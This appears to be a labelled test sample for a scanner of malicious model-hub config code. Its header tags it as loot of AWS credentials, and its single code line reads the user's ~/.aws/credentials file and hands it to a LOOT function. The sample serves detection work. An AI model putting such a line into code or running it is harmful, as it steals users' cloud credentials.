#: {"class": "hub-code", "loader": "hf_config", "unpinned": false, "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
LOOT(open(HOME + "/.aws/credentials").read())
